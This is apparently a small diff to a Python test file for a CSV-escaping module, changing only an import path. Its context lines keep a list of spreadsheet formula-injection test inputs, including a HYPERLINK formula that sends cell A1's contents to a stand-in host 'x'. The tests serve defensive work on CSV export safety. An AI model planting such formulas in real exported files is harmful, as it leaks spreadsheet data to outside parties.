@@ -18,7 +18,7 @@ import pytest
 
 from lepton_widgets.config import RunConfig
 from lepton_widgets.core.run_store import RunStore
-from lepton_widgets.core.safe_csv import RISKY_FIRST, escape_cell, escape_frame, read_safe_csv, to_safe_csv
+from lepton_widgets.core.base.safe_csv import RISKY_FIRST, escape_cell, escape_frame, read_safe_csv, to_safe_csv
 
 HYPERLINK = '=HYPERLINK("http://x/?leak="&A1,"good")'
 RISKY = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
